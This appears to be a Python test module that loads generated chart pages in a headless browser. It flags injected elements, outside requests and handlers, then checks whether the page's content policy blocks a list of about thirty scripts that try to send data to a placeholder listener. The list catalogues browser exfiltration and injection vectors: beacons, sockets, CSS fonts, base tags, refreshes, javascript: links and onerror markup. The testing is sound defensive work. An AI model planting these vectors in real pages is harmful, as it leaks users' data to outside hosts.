"""Looks at pages in a real browser, and says what they did that they must not.

Its functions are called in a process of their own, which has one browser for all pages.
"""

from __future__ import annotations

import contextlib
import functools
import threading
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from browser import Browser, open_browser

# What no text may become, on any page.
FOREIGN = """() => {
  const found = [];
  const never = ["iframe", "frame", "object", "embed", "base", "video", "audio",
    "foreignObject", "animate", "set", "marquee", "template", "textarea",
    "svg > script"];
  for (const name of never) {
    if (document.querySelector(name)) found.push(`an element ${name}`);
  }
  const kept = new RegExp("^(#|blob:|data:,$|data:image|front[.]png$|" +
    "https://(huggingface[.]co|arxiv[.]org|github[.]com|pypi[.]org)/)");
  for (const e of document.querySelectorAll("*")) {
    for (const { name, value } of e.attributes) {
      if (/^on/i.test(name)) found.push(`${e.localName} with ${name}`);
      const place = /^(href|xlink:href|src|srcset|action|formaction|data|poster|ping)$/;
      const inside = e.closest(".modebar, .gl-container") !== null;
      if (place.test(name) && !kept.test(value) && !inside) {
        found.push(`${e.localName} with ${name}=${value.slice(0, 60)}`);
      }
      if (name === "style" && /url\\(|@import|expression/.test(value)
          && !/url\\(["']?#/.test(value)) found.push(`${e.localName} with ${value}`);
    }
    if (e.localName === "meta" && /refresh/i.test(e.httpEquiv)) found.push("a refresh");
    const picture = e.getAttribute("src");
    if (e.localName === "img" && picture !== "front.png") found.push("img");
  }
  return found;
}"""
SHOWN = """() => {
  const parts = [document.title];
  const walk = (node) => {
    for (const child of node.childNodes) {
      if (child.nodeType === 3) parts.push(child.data);
      else if (!["SCRIPT", "STYLE", "NOSCRIPT"].includes(child.nodeName)) {
        for (const { value } of child.attributes ?? []) parts.push(value);
        walk(child);
        parts.push("\\n");
      }
    }
  };
  walk(document.body);
  return parts.join("");
}"""
CENTRES = """() => [...document.querySelectorAll(".chart .nsewdrag")].map((e) => {
  const r = e.getBoundingClientRect();
  return [r.x + scrollX + r.width / 2, r.y + scrollY + r.height / 2]; })"""
USED = """() => {
  for (const e of document.querySelectorAll("button")) {
    for (const kind of ["mousedown", "mouseup", "click"]) {
      e.dispatchEvent(new MouseEvent(kind, {bubbles: true, cancelable: true}));
    }
  }
}"""

_KEPT = ExitStack()


@functools.cache
def _browser() -> Browser:
    return _KEPT.enter_context(open_browser())


def look(path: Path, ready: str) -> tuple[list[str], str]:
    """Open a page without its policy; return what it did wrong, and its text."""
    context = _browser().new_context(bypass_csp=True, offline=True)
    problems: list[str] = []
    address = path.as_uri()
    try:
        page = context.new_page()
        page.add_init_script(
            "window.harmed = (n) => { (window.harms ??= []).push(n); };"
        )
        _watch(page, address, problems)
        page.goto(address, timeout=180_000)
        page.wait_for_selector(ready, state="attached", timeout=180_000)
        page.wait_for_timeout(300)
        for x, y in page.evaluate(CENTRES)[:6]:
            page.evaluate("([x, y]) => scrollTo(0, y - 300)", [x, y])
            page.mouse.move(x, 300)
            page.wait_for_timeout(30)
        text = page.evaluate(SHOWN)
        page.evaluate(USED)
        page.wait_for_timeout(400)
        problems += page.evaluate(FOREIGN)
        problems += [f"ran {n}" for n in page.evaluate("window.harms ?? []")]
        if page.url.partition("#")[0] != address:
            problems.append(f"went to {page.url}")
    finally:
        context.close()
    return sorted(set(problems)), text


def _watch(page: Any, address: str, problems: list[str]) -> None:
    def asked(request: Any) -> None:
        url = request.url.partition("#")[0]
        own = url == address or url == address.rpartition("/")[0] + "/front.png"
        if not own and not url.startswith(("data:", "blob:")):
            problems.append(f"asks for {request.url[:80]}")

    page.on("request", asked)
    page.on("pageerror", lambda error: problems.append(f"error: {error}"))
    page.on("dialog", lambda dialog: problems.append(f"says {dialog.message}"))
    page.on("popup", lambda opened: problems.append(f"opens {opened.url}"))


class _Sending:
    """A page under its own policy, in which scripts try to send something away."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self._page: Any = None
        self._path = Path()
        heard = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_PUT = do_GET

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def __call__(self, path: Path, ready: str, script: str, number: int) -> list[str]:
        problems: list[str] = []
        if self._page is None or self._path != path or self._page.is_closed():
            self._open(path, ready)
        page = self._page
        before = len(page.context.pages)
        there = f"127.0.0.1:{self._server.server_port}/{number}"
        self.asked.clear()
        with contextlib.suppress(Exception):
            page.evaluate(script.replace("THERE", there))
        page.wait_for_timeout(250)
        if any(f"/{number}" in asked for asked in self.asked):
            problems.append("something was sent")
        if page.url.partition("#")[0] != path.as_uri():
            problems.append(f"the page went to {page.url[:80]}")
        if len(page.context.pages) != before:
            problems.append("a window was opened")
        if problems:
            page.context.close()
            self._page = None
        return problems

    def _open(self, path: Path, ready: str) -> None:
        if self._page is not None:
            self._page.context.close()
        self._page, self._path = _browser().new_context().new_page(), path
        self._page.on("dialog", lambda dialog: dialog.dismiss())
        self._page.goto(path.as_uri(), timeout=180_000)
        self._page.wait_for_selector(ready, state="attached", timeout=180_000)


_sending = functools.cache(_Sending)


def send(path: Path, ready: str, script: str, number: int) -> list[str]:
    """Run a script that tries to send, or lead away; say how it could."""
    return _sending()(path, ready, script, number)


# Ways in which a script, or markup, on a page could send something away. THERE is the
# address of somebody who listens. Each is a function for the page to run.
_ELEMENT = """async () => {{
  const made = document.createElement("{name}");
  Object.entries({attributes}).forEach(([k, v]) => made.setAttribute(k, v));
  document.{into}.append(made);
}}"""
_MARKUP = """async () => document.body.insertAdjacentHTML("beforeend", `{text}`)"""
_LINK = """() => {{
  const link = document.createElement("a");
  Object.assign(link, {attributes});
  document.body.append(link);
  link.click();
}}"""


def _link(**attributes: str) -> str:
    return _LINK.format(attributes=attributes)


def _element(name: str, into: str = "body", **attributes: str) -> str:
    return _ELEMENT.format(name=name, into=into, attributes=attributes)


def _markup(text: str) -> str:
    return _MARKUP.format(text=text)


VECTORS = {
    "fetch": "() => fetch('http://THERE', {mode: 'no-cors'})",
    "beacon": "() => navigator.sendBeacon('http://THERE', 'all')",
    "socket": "() => new WebSocket('ws://THERE') && null",
    "events": "() => new EventSource('http://THERE') && null",
    "worker": "() => new Worker('http://THERE') && null",
    "worker made here": """() => new Worker(URL.createObjectURL(
      new Blob(["fetch('http://THERE', {mode: 'no-cors'})"]))) && null""",
    "import": "() => import('http://THERE')",
    "picture": "() => { new Image().src = 'http://THERE'; }",
    "window": "() => { window.open('http://THERE'); }",
    "link in a label": """async () => {
      const chart = document.querySelector(".js-plotly-plot");
      await Plotly.relayout(chart, {"xaxis.title.text": "<a href='http://THERE'>x</a>"});
      chart.querySelector("svg a")?.dispatchEvent(
        new MouseEvent("click", {bubbles: true, cancelable: true}));
    }""",
    "map of a chart": """() => Plotly.newPlot(
      document.querySelector(".js-plotly-plot"),
      [{type: "scattergeo", lon: [0], lat: [0]}], {}, {topojsonURL: 'http://THERE/'})""",
    "script": _element("script", src="http://THERE"),
    "style sheet": _element("link", "head", rel="stylesheet", href="http://THERE"),
    "prefetch": _element("link", "head", rel="prefetch", href="http://THERE"),
    "manifest": _element("link", "head", rel="manifest", href="http://THERE"),
    "frame": _element("iframe", src="http://THERE"),
    "object": _element("object", data="http://THERE"),
    "video": _element("video", src="http://THERE", autoplay=""),
    "style": _markup("<style>body { background: url(http://THERE) }</style>"),
    "font": _markup(
        "<style>@font-face { font-family: f; src: url(http://THERE) }"
        "body { font-family: f }</style>"
    ),
    "form of the page": """() => {
      const form = document.querySelector("form");
      form.setAttribute("action", 'http://THERE'); form.submit();
    }""",
    "base": """() => {
      const base = document.createElement("base");
      base.href = 'http://THERE/'; document.head.prepend(base);
      new Image().src = 'x.png';
    }""",
    "link clicked": _link(href="http://THERE"),
    "link that pings": _link(href="#", ping="http://THERE"),
    "download": _link(href="http://THERE", download="x"),
    "refresh": _markup("<meta http-equiv=refresh content='0;url=http://THERE'>"),
    "script in markup": _markup(
        "<img src=data:, onerror=\\\"new Image().src='http://THERE'\\\">"
    ),
    "script as an address": _link(href="javascript:new Image().src='http://THERE'"),
    "text as a script": """() => setTimeout("new Image().src='http://THERE'", 0)""",
    "address": "() => { location.href = 'http://THERE'; }",
    "rules ahead": """() => {
      const rules = document.createElement("script"); rules.type = "speculationrules";
      rules.textContent = JSON.stringify(
        {prefetch: [{source: "list", urls: ['http://THERE']}]});
      document.head.append(rules);
    }""",
}
